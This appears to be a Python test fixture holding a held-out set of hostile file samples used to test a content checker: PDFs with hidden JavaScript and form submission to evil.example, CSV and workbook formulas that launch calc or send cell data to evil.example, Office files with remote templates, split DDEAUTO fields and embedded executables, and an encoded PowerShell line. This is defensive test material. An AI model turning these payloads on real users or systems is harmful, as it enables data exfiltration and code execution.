"""Hostile files that were written when the checks were finished, and never used to improve them.

The part of them that is refused says honestly how far checks of content reach. Serving has to be safe for the rest.
"""

import zlib
from collections.abc import Callable

from tests.assurance.files.builders import (
    archive,
    chunk,
    message,
    office,
    open_document,
    pdf,
    picture,
    png_of,
    relation,
    stream,
)
from tests.assurance.files.hostile import CALL, PAGE, SVG, program, utf_16

HELD_OUT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "script packed twice": (
        "a.pdf",
        lambda: pdf(
            stream(
                "/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
                zlib.compress(b"/S /JavaScript /JS (x)").hex().encode(),
            )
        ),
    ),
    "script with a remark between": ("b.pdf", lambda: pdf("<< /S % a remark\n/JavaScript /JS % another\n(x) >>")),
    "PDF that sends its form": ("c.pdf", lambda: pdf("<< /S /SubmitForm /F (https://evil.example/) >>")),
    "PDF that opens another": ("d.pdf", lambda: pdf("<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >>")),
    "PDF whose page hides after 4 kB": ("e.pdf", lambda: b"%PDF-1.7\n%" + b" " * 4096 + b"\n" + PAGE + b"\n%%EOF\n"),
    "script in a text chunk": ("f.png", lambda: png_of(8, 8, more=chunk(b"tEXt", b"Comment\x00" + PAGE))),
    "script in a JPEG comment": ("g.jpg", lambda: picture("jpg", comment=PAGE)),
    "script in a GIF comment": ("h.gif", lambda: picture("gif", comment=PAGE)),
    "formula that starts a program": ("i.csv", lambda: b"name,score\r\n=cmd|'/C calc'!A0,1\r\n"),
    "web query": ("j.csv", lambda: b'=WEBSERVICE("https://evil.example/?"&A1),1\r\n'),
    "picture fetched from elsewhere": (
        "k.docx",
        lambda: office("docx", {"word/_rels/document.xml.rels": relation("image", "https://evil.example/x.png")}),
    ),
    "template on a foreign share": (
        "l.docx",
        lambda: office(
            "docx", {"word/_rels/settings.xml.rels": relation("attachedTemplate", "file://evil.example/share/a.dotm")}
        ),
    ),
    "DDE split into letters": (
        "m.docx",
        lambda: office(
            "docx",
            main="<w:document xmlns:w='x'>"
            + "".join(f"<w:instrText>{c}</w:instrText>" for c in "DDEAUTO")
            + " cmd</w:document>",
        ),
    ),
    "web query in a workbook": (
        "n.xlsx",
        lambda: office(
            "xlsx",
            {
                "xl/connections.xml": '<connections><connection><webPr url="http://evil.example/"/></connection></connections>'
            },
        ),
    ),
    "formula in a workbook": (
        "o.xlsx",
        lambda: office("xlsx", {"xl/worksheets/sheet1.xml": "<worksheet><f>cmd|'/C calc'!A0</f></worksheet>"}),
    ),
    "SVG inside a drawing": ("p.docx", lambda: office("docx", {"word/media/image1.svg": SVG})),
    "program without a name": ("q.docx", lambda: office("docx", {"customXml/item1.dat": b"\x00" + program(b"MZ")})),
    "archive of another kind": ("r.docx", lambda: office("docx", {"word/media/a.bin": b"MSCF" + bytes(100)})),
    "remote picture in OpenDocument": (
        "s.odt",
        lambda: open_document("odt", {"styles.xml": '<draw:image xlink:href="https://evil.example/x.png"/>'}),
    ),
    "link that runs a script": ("t.txt", lambda: f'<a href="javascript:{CALL}">Minutes</a>'.encode()),
    "page in an older encoding": ("u.txt", lambda: b"\x1b$B" + PAGE[:40] + b"\x1b(B"),
    "page in UTF-16 without a mark": ("v.txt", lambda: utf_16(PAGE.decode())[2:]),
    "page as the message": ("w.eml", lambda: b"Subject: x\r\nContent-Type: text/html\r\n\r\n" + PAGE),
    "archive in a message": ("x.eml", lambda: message({"invoice.zip": archive({"a.js": "x"})})),
    "PowerShell in a text": ("y.txt", lambda: b"powershell -enc SQBFAFgA\r\n"),
}
